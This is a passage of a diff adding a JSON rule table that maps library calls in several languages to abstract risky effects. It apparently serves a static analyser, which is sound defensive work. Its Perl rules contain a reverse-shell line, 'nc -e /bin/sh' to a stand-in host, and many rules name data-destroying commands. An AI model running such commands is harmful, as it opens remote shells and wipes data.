+onnect $1:host=localhost $0:port","net.createConnection":"calls-back connect $1:host=localhost $0:port","tls.connect":"calls-back connect $1:host=localhost $0:p\
+ort","net.Socket":"made client","Buffer.from":"decode $0 $1","Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","db.dropDatabase":"run sql drop-database db"\
+,"knex":"if-arg:map if-no-sign:connects made mock | made rows","@electric-sql/pglite.PGlite":"if-none made mock","aws-sdk-client-mock.mockClient":"mock-class $0\
+","test.mock.method":"spy $0 $1 $2","jest.spyOn":"spy $0 $1 $2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","sinon.stub":"if-none mock | spy $0 $1 $2 s\
+tub","sinon.replace":"imitate $0 $1 $2","sinon.createSandbox":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake":"mock","test.mock.fn":"mock","msw/node.s\
+etupServer":"made msw","@testcontainers/postgresql.PostgreSqlContainer":"made container","pg.Pool":"if-gets:container if-no-sign:reads-environment made database\
+ :memory:","pg.Client":"if-gets:container if-no-sign:reads-environment made database :memory:","nock.disableNetConnect":"if-no-sign:besides-http if-unset:NOCK_O\
+FF imitate requests","drizzle":"made drizzle","sql":"sql $0","bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0","WebSocket":"made connection $0","ws":"\
+made connection $0","ws.WebSocket":"made connection $0","pm2.delete":"run pm2 delete $0","Object.fromEntries":"from-pairs $0","worker_threads.Worker":"if-option\
+:eval=true eval $0","Worker":"if-option:eval=true eval $0","URL":"if-args:2 value $self | value $0","fs.opendir":"calls-back folder $0 dirent","Proxy":"made pro\
+xy $1","node-linux.Service":"made service","node-windows.Service":"made service","node-mac.Service":"made service","memfs.memfs":"made mock","memfs.createFsFrom\
+Volume":"made mock","drizzle-orm.sql":"value $0","Promise.all":"value $0","Promise.allSettled":"value $0","util.promisify":"value $0","Map":"value $0","Set":"va\
+lue $0","std.walk":"folder $0 below","std.expandGlob":"folder $0 below","Reflect":"value","Reflect.get":"attribute $0 $1","Reflect.apply":"invoke $0 $2"},"metho\
+ds":{"write":"send $self $0 append","send":"send $self $0 append","install":"if-made:service run systemctl enable --now x","end":"if-args:1 send $self $0 append\
+","connect":"if-made:client calls-back connect $1:host=localhost $0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $0","on":"listen $self $0 $1","once":"list\
+en $self $0 $1","addListener":"listen $self $0 $1","emit":"emit $0 $1..","then":"then","finally":"then","method":"if-owner:^mock$ spy $0 $1 $2","start":"if-made\
+:container value $self","getConnectionUri":"if-made:container value $self","mockImplementation":"answer-spy $0","callsFake":"answer-spy $0","mockReturnValue":"a\
+nswer-spy $0 returned","mockResolvedValue":"answer-spy $0 returned","mockRejectedValue":"answer-spy $0 returned","returns":"answer-spy $0 returned","resolves":"\
+answer-spy $0 returned","rejects":"answer-spy $0 returned","listen":"if-made:msw if-option:onUnhandledRequest=error if-no-sign:besides-fetch imitate requests","\
+close":"if-made:msw end-imitation requests","toString":"value $self","text":"value $self","json":"value $self","unref":"value $self","bind":"made bound $self $1\
+..","delete":"if-made:drizzle if-no-sign:limits run sql delete-all rows | if-database if-arg:name if-no-sign:limits run sql delete-all $owner","destroy":"if-opt\
+ion:truncate=true run sql truncate rows | if-option:where={} run sql delete-all rows","getVolume":"made docker-volume","scan":"if-made:glob globs $origin","scan\
+Sync":"if-made:glob globs $origin","runInThisContext":"if-made:vm-script eval $origin","runInNewContext":"if-made:vm-script eval $origin","runInContext":"if-mad\
+e:vm-script eval $origin","push":"if-list append $self $all","unshift":"if-list append $self $all","splice":"if-list append $self $all","put":"if-made:sftp run \
+scp -r $0 host:/x","fastPut":"if-made:sftp run scp -r $0 host:/x","uploadDir":"if-made:sftp run scp -r $0 host:/x","deleteLocalBranch":"if-git if-says:^true$ ru\
+n git branch -D","deleteLocalBranches":"if-git if-says:^true$ run git branch -D","sendMail":"sends-files","sendCommand":"if-stored program redis-cli $all","pipe\
+line":"if-stored program redis-cli $all","multi":"if-stored program redis-cli $all","scanStream":"if-stored entries keys","scanIterator":"if-stored entries keys\
+","keys":"if-stored if-args:1 entries keys","del":"if-gets:keys run sql flush FLUSHDB | if-made:rows run sql delete-all rows","unlink":"if-gets:keys run sql flu\
+sh FLUSHDB","update":"if-made:rows if-no-sign:limits run sql update-all rows","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard","clean":"if-m\
+ade:git if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git clean -n | if-made:git run git clean -fd","rollback":"if-name:migrate if-args:2 run sql drop-table rows\
+","exec":"if-made:ssh shell $0 | sql $0:query:sql:text","execCommand":"if-made:ssh shell $0","remove":"if-made:docker-volume run docker volume rm $self | if-dat\
+abase if-empty run sql delete-all $owner","pruneVolumes":"run docker volume prune -af","drop":"if-database run sql drop-collection $owner","query":"sql $0:query\
+:sql:text","execute":"sql $0:query:sql:text","$executeRawUnsafe":"sql $0:query:sql:text","$executeRaw":"sql $0:query:sql:text","$queryRawUnsafe":"sql $0:query:s\
+ql:text","$queryRaw":"sql $0:query:sql:text","run":"sql $0:query:sql:text","prepare":"sql $0:query:sql:text","raw":"sql $0:query:sql:text","unsafe":"sql $0:quer\
+y:sql:text","command":"sql $0:query:sql:text","batch":"sql $0:query:sql:text","executeQuery":"sql $0:query:sql:text","sync":"if-option:force=true run sql drop-t\
+able rows","getSiblingDB":"name db","getSisterDB":"name db","getDB":"name db","getCollection":"name db.collection","explain":"name cache","runCommand":"if-optio\
+n:dropDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDat\
+abase run sql drop-user all","adminCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdow\
+n run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","dropUser":"if-database run sql drop-user $owner","dropAllUsers":"if-database \
+run sql drop-user $owner","shutdownServer":"if-database run sql shutdown $owner","truncate":"if-made:rows run sql delete-all rows"}},"perl":{"lexer":{"comment":\
+["#"],"sigils":"$@%","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"q","heredoc":"perl","patterns":true,"lines":"none"},"program":"pe\
+rl","blocks":"braces","member_operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_keywords":["sub"],"inputs":{"@ARGV":"args",\
+"$ARGV":"args","\\"@ARGV\\"":"joined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"sdks":[],"texts":{"$0":"./program.pl","STDIN":"\\\
+ufffc"},"aliases":{},"rewrites":[["^&",""]],"functions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\\ufffc","File.Temp.newdir":"value /tmp/\\u\
+fffc","getcwd":"value .","Cwd.getcwd":"value .","Cwd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take $0","print":"print text","say":"print lin\
+e","readline":"input","system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if-sign:socket-shell run nc -e /bin/sh shel\
+l.example.net 443 | command $all","CORE.system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.exec":"if-sign:socket-shell \
+run nc -e /bin/sh shell.example.net 443 | command $all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","systemx":"if-s\
+ign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all\
+","IPC.System.Simple.systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.capturex":"if-sign:socket-shell r\
+un nc -e /bin/sh shell.example.net 443 | command $all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all","rmtree":"run rm -rf $0","File.Path.rmtr\
+ee":"run rm -rf $0","remove_tree":"run rm -rf $all","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","move":"run mv $0 $1","copy":"run cp $0 $1\
+","symlink":"run ln -s $0 $1","link":"run ln $0 $1","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"run chown $0 $2..","kill":"kill $1.. $0",\
+"fork":"if-sign:repeats run fork","open":"open-perl $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","File.Find.finddepth":"find","do":"if-arg:\
+text read $0","glob":"glob $0","readdir":"names .","LoadFile":"read $0","YAML.XS.LoadFile":"read $0","YAML.LoadFile":"read $0","read_file":"read $0","File.Slurp\
+.read_file":"read $0","slurp":"read $0","retrieve":"read $0","Storable.retrieve":"read $0","recv":"received","LWP.Simple.get":"request GET $0","get":"request GE\
+T $0","POSIX.setuid":"run setuid $0","setuid":"run setuid $0","pack":"pack $0 $1..","Net.OpenSSH.new":"made ssh","Net.SSH.Perl.new":"made ssh","Net.SSH2.new":"m\
+ade ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"made rest","MongoDB.connect":"made mongo","MongoDB.MongoClient.new":"\
+made mongo","Net.LDAP.new":"made service","Net.LDAPS.new":"made service","MIME.Lite.attach":"sends-files","run3":"program $0","IPC.Run3.run3":"program $0","path\
+":"join $all","Path.Tiny.path":"join $all"},"methods":{"do":"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-mad\
+e:ssh command $all","capture2":"if-made:ssh command $all","pipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command\
+ $all","channel":"if-made:ssh value $self","delete":"if-made:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-\
+over POST $0 $1","post_form":"if-made:rest request-over POST $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get\
+_collection":"if-made:mongo value $self","ns":"if-made:mongo value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys\
+":"calls-back if-stored entries keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob \
+$self **","spew":"if-text write $self $0","spew_utf8":"if-text write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree"\
+:"if-text run rm -rf $self","children":"if-text folder $self","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},\
+"php":{"lexer":{"comment":["//","#"],"block_comment":["/*","*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","h\
+eredoc":"php","patterns":false,"lines":"none"},"program":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_call\
+s":false,"function_keywords":["function"],"inputs":{"$argv":"argv","$_SERVER":"server","$_ENV":"environment","$_GET":"peer","$_POST":"peer","$_REQUEST":"peer","\
+$_COOKIE":"peer"},"sdks":["drupal.entitytypemanager","aws.","google.cloud.","stripe.","microsoftazure.","digitaloceanv2.","github.","gitlab.","cloudflare.","twi\
+lio.","s3client","ec2client","rdsclient","dynamodbclient","route53client","sqsclient","kmsclient","secretsmanagerclient","iamclient","lambdaclient","cloudformat\
+ionclient","eksclient","ecsclient","ecrclient","snsclient","ssmclient","elasticacheclient","efsclient","redshiftclient","glacierclient","backupclient","organiza\
+tionsclient","cloudfrontclient","cloudwatchlogsclient","cognitoidentityproviderclient","opensearchserviceclient","kinesisclient","autoscalingclient","lightsailc\
+lient","neptuneclient","docdbclient","apigatewayclient","acmclient","storageclient","bigqueryclient","stripeclient","mailchimpmarketing.","mailgun.","algolia.",\
+"shopify.","elastic.","hubspot.","auth0.","cloudinary."],"texts":{"__DIR__":".","__FILE__":"./program.php"},"aliases":{},"rewrites":[["^(?:\\\\w+\\\\.)*(filesystem|\
+httpclient|ssh2|\\\\w+iterator|splfileobject|pdo|process|\\\\w{2,}client)(?=$|\\\\.\\\\w+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made memcached","me\
+mcache":"made memcached","eval":"eval $0","assert":"if-arg:text eval $0","create_function":"eval $1","storage.disk":"if-says:^(s3|gcs|azure|r2|spaces|minio) mad\
+e service","config":"if-says:(secret|password|token|[-_.]key)$ secret","dump":"print line","dd":"print line","var_dump":"print line","print_r":"print line","inc\
+lude":"include $0","require":"include $0","include_once":"include $0","require_once":"include $0","system":"shell $0","exec":"shell $0","shell_exec":"shell $0",\
+"passthru":"shell $0","popen":"shell $0","proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $0","rmdir":"run rmdir $0","rename":"run mv $0 $1","c\
+opy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run chown $1 $0","wp_insert_user":"if-says:^administrator$ \
+run wp user create --role=administrator","wp_delete_post":"if-args:2 run sql delete-all posts","wp_delete_attachment":"if-args:2 run sql delete-all posts","wp_d\
+elete_user":"if-args:2 run sql delete-all posts","wp_delete_comment":"if-args:2 run sql delete-all posts","wp_delete_term":"if-args:2 run sql delete-all posts",\
+"file_get_contents":"if-args:3 request POST $0 $2 | read $0","stream_context_create":"made context $0","file":"read $0","readfile":"read $0","show_source":"read\
+ $0","highlight_file":"read $0","curlfile":"read $0","curl_file_create":"read $0","parse_ini_file":"read $0","yaml_parse_file":"read $0","simplexml_load_file":"\
+read $0","socket_read":"received","stream_socket_recvfrom":"received","stream_socket_accept":"made peer","socket_accept":"made peer","file_put_contents":"write \
+$0 $1 $2","fopen":"open $0 $1","splfileobject":"open $0 $1","fwrite":"send $0 $1","fputs":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run setuid $0",\
+"pcntl_fork":"if-sign:repeats run fork","pcntl_exec":"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0","curl_exec\
+":"request GET $0","curl_setopt":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^DELETE$ re\
+quest DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"environment\
+ $0","dirname":"dirname $0","getcwd":"value .","json_decode":"parse-json $0","fgets":"if-gets:peer received | if-gets:connection received | input","fread":"if-g\
+ets:peer received | if-gets:connection received | input","stream_get_contents":"if-gets:peer received | if-gets:connection received | input","readline":"if-gets\
+:peer received | if-gets:connection received | input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0","recursivedirectoryiterator":"folder $0","d\
+irectoryiterator":"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellarg":"value $0","escapeshellcmd":"value $0","a\
+rray_slice":"value $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query":"sql $1","mysqli_multi_query":"sql $1","mys\
+qli_real_query":"sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql $0","pg_send_query":"sql $1 | sql $0","db.de\
+lete":"sql $0","db.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.drop":"run sql drop-table $0","schema.dropif\
+exists":"run sql drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0","base_path":"join . $0","app_path":"join app\
+ $0","database_path":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesystem":"made filesystem","file.deletedirector\
+y":"run rm -rf $0","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","client":"if-sign:http-client made rest $all",\
+"httpclient.create":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell $0","process.fromshellcommandline":"if-arg:t\
+ext shell $0","process.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made rest","http.withheaders":"made rest","http.with\
+basicauth":"made rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0","http.post":"request POST $0 $1","ssh2":"ma\
+de ssh","ssh2_exec":"shell $1"},"methods":{"set_role":"if-says:^administrator$ run wp user create --role=administrator","add_role":"if-says:^administrator$ run \
+wp user create --role=administrator","query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executequery":"sql $0","executeupdate":"sql $0","createque\
+ry":"sql $0","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetablesql":"made whole","getdroptablesql":"made whole"\
+,"getdropschemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dropschema":"if-kept run sql drop-schema $owner","cre\
+atequerybuilder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:rest request-over DELETE $0","remove":"if-made:files\
+ystem run rm -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-over POST $0 $1:json:body","get":"if-made:rest reques\
+t-over GET $0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","getdatabase":"if-made:mongo value $self","getcollect\
+ion":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys run sql flush FL\
+USHDB","unlink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$ run php artisan migrate:fresh","flush":"if-made:m\
+emcached run sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $self $0","fwrite":"send $self $0","getpathname":"valu\
+e $self","getrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop-bucket $0"}},"ruby":{"lexer":{"comment":["#"],"si\
+gils":"$@","interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"ruby","patterns":true,"lines":"statements"},"program":"ru\
+by","blocks":"end","member_operators":[".","::","&."],"concatenation_operators":["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"ARGV":"args","$*\
+":"args","ENV":"environment","$_":"text","STDIN":"lines","$stdin":"lines","ARGF":"lines","params":"peer"},"sdks":["Aws.","Google.Cloud.","Azure.","Stripe.","Oct\
+okit.","Gitlab.","Elasticsearch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f\
+","rm_r":"FileUtils.rm_r","rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_\
+r":"FileUtils.cp_r","remove_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"FileUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|\
+Object|self)\\\\.",""]],"functions":{"puts":"print line","p":"print line","pp":"print line","print":"print text","gets":"input","readlines":"input","Rails.applica\
+tion":"name rails_application","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql d\
+rop-database db","ActiveRecord.Tasks.DatabaseTasks.purge_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-datab\
+ase db","rails_application.credentials":"secret","send":"invoke $0 $1..","public_send":"invoke $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.\
+FileList.[]":"globs $all","FileList.[]":"globs $all","Rake.FileList.new":"globs $all","FileList.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgre\
+s":"made sequel","Sequel.mysql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.tinytds":"made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made se\
+quel","IO.popen":"calls-back command $all","Open3.popen2":"calls-back command $all","Open3.popen2e":"calls-back command $all","Open3.popen3":"calls-back command\
+ $all","system":"command $all","exec":"command $all","spawn":"command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"c\
+ommand $all","PTY.spawn":"command $all","Process.Sys.setuid":"run setuid $0","Process.Sys.seteuid":"run setuid $0","Process.UID.change_privilege":"run setuid $0\
+","Process.UID.grant_privilege":"run setuid $0","eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval\
+":"eval $0","binding.eval":"eval $0","Sidekiq.Queue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq\
+.DeadSet.new":"made sidekiq","Sidekiq.Queue.all":"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.\
+mock":"made mock","MockRedis.new":"made mock","Docker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_obj\
+ect":"entries model","Mongo.Client.new":"made mongo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo",\
+"Mongoid.Clients.with_name":"made mongo","Mongoid.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.pu\
+rge!":"run sql drop-database mongoid","Mongoid.Config.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $\
+0 $1","File.open":"calls-back open $0 $1","File.new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request\
+ GET $0","Faraday.get":"request GET $0","RestClient.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $\
+0","Net.HTTP.post":"request POST $0 $1 $:body $:json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 \
+$:body $:json $:form","Faraday.post":"request POST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request \
+POST $0 $1 $:body $:json $:form","Excon.post":"request POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.dele\
+te":"request DELETE $0","Faraday.delete":"request DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request D\
+ELETE $0","Typhoeus.delete":"request DELETE $0","Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0",\
+"URI.parse":"value $0","File.expand_path":"value $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":\
+"read $0","File.foreach":"read $0","File.binread":"read $0","IO.readlines":"read $0","IO.binread":"read $0","YAML.load_file":"read $0","YAML.safe_load_file":"re\
+ad $0","YAML.unsafe_load_file":"read $0","Psych.load_file":"read $0","JSON.load_file":"read $0","CSV.read":"read $0","CSV.foreach":"read $0","CSV.table":"read $\
+0","Dotenv.parse":"read $0","IniFile.load":"read $0","TomlRB.load_file":"read $0","PStore.new":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","Fi\
+le.delete":"run rm $all","File.unlink":"run rm $all","FileUtils.rm":"run rm $all","FileUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run \
+rmdir $0","Dir.unlink":"run rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree"\
+:"run rm -rf $all","FileUtils.remove_dir":"run rm -rf $all","FileUtils.remove_entry":"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUt\
+ils.mv":"run mv $0 $1","File.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","FileUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.sy\
+mlink":"run ln -s $0 $1","FileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chmod -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $\
+1.. $0","File.chown":"run chown $0 $2..","File.truncate":"run truncate -s 0 $0","File.join":"join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pw\
+d":"value .","Dir.mktmpdir":"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.glob":"calls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children\
+":"names $0","Dir.entries":"names $0","Dir.each_child":"names $0","Find.find":"calls-back folder $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":\
+"if-sign:repeats run fork","TCPSocket.new":"connect $all","TCPSocket.open":"connect $all"},"methods":{"collections":"if-made:mongo entries mongo","write":"send \
+$self $0","puts":"send $self $0","execute":"sql $0","exec_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0","exec_query":"sql $0","exec":"i\
+f-made:ssh shell $0 | sql $0","method":"method $self $0","const_get":"attribute $self $0","send":"message $self $0 $1..","public_send":"message $self $0 $1..","\
+__send__":"message $self $0 $1..","then":"then","yield_self":"then","find_each":"if-name calls-back made rows","in_batches":"if-name calls-back made rows","upda\
+te_all":"if-name run sql update-all $owner","destroy":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","destroy!":"if-sign:unconditional if-\
+made:rows if-none run sql delete-all rows","purge":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","remove":"if-made:docker-volume run dock\
+er volume rm $self","open":"if-text calls-back open $self $0","descendants":"entries model","subclasses":"entries model","delete_all":"if-made:model run sql del\
+ete-all rows | if-name if-kept run sql delete-all $owner | run sql delete-some rows","destroy_all":"if-made:model run sql delete-all rows | if-name if-kept run \
+sql delete-all $owner | run sql delete-some rows","delete":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-all rows | if-gets:keys run sql\
+ flush FLUSHDB | if-database if-none run sql delete-all $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flush FLUSHDB","del":"if-gets:keys\
+ run sql flush FLUSHDB","truncate":"if-made:sequel run sql truncate rows","tap":"calls-back value $self","freeze":"value $self","dup":"value $self","clone":"val\
+ue $self","compact":"value $self","uniq":"value $self","sort":"value $self","to_a":"value $self","flatten":"value $self","to_set":"value $self","clear":"if-made\
+:sidekiq run celery purge","database":"if-made:mongo value $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","exec!":"if-\
+made:ssh shell $0","eval":"if-content eval $self | if-text eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0","module_eval":"if-arg:content\
+ eval $0 | if-arg:text eval $0","instance_eval":"if-arg:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql update-all rows","reset":"if-say\
+s:^hard$ if-args:2 run git reset --hard","from":"if-made:sequel value $self","keys":"calls-back if-stored entries keys","scan_each":"calls-back if-stored entrie\
+s keys","rmtree":"if-text run rm -rf $self","children":"folder $self","each_child":"folder $self","gets":"if-made:peer received | if-made:connection received | \
+if-list any-of $self","readline":"if-made:peer received | if-made:connection received","readpartial":"if-made:peer received | if-made:connection received","recv\
+":"if-made:peer received | if-made:connection received","recv_nonblock":"if-made:peer received | if-made:connection received","read_nonblock":"if-made:peer rece\
+ived | if-made:connection received","read":"if-made:peer received | if-made:connection received | lines $self","accept":"made peer","accept_nonblock":"made peer\
+","shift":"if-list any-of $self","first":"at 0 $self","last":"at -1 $self","fetch":"entry $self $0 | if-map environment $0 $1","each_pair":"if-map pairs $self",\
+"values":"if-map values $self","each_value":"if-map values $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single\
+_escapes":true,"quoting":"none","patterns":false,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators\
+":[],"bare_calls":false,"function_keywords":["function"],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"sdks":[],"texts\
+":{"os.pwd":".","os.home":"~","FileManager.default.homeDirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/tempo\
+rary","URL.temporaryDirectory":"/tmp/temporary","Directory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},\
+"aliases":{},"rewrites":[["^(?:(?:System\\\\.IO|std|tokio|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions"\
+:{"print":"print","println":"print","console.log":"print","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql f\
+lush $0","string.char":"characters $all","table.concat":"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold\
+ lower $0","c":"value $all","list":"value $all","List.of":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","\
+mutableListOf":"value $all","Arrays.asList":"value $all","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","S\
+tream.of":"value $all","List.toList":"value $all","IO.inspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_ato\
+m":"value $0","String.to_existing_atom":"value $0","expand_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value\
+ $0","Path.toFile":"value $0","File.toPath":"value $0","Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","Direc\
+toryInfo":"value $0","FileInfo":"value $0","URL":"value $0","URI":"value $0","URI.create":"value $0","Uri.parse":"value $0","Uri.unsafeParse":"value $0","expand\
+_path":"value $0","Path.expand":"value $0","abspath":"value $0","normpath":"value $0","opendir":"value $0","filepath.Abs":"value $0","filepath.Clean":"value $0"\
+,"os.ExpandEnv":"value $0","std.string":"value $0","string":"value $0","String.valueOf":"value $0","Process":"value $0","Cmd":"value $0","must":"value $0","file\
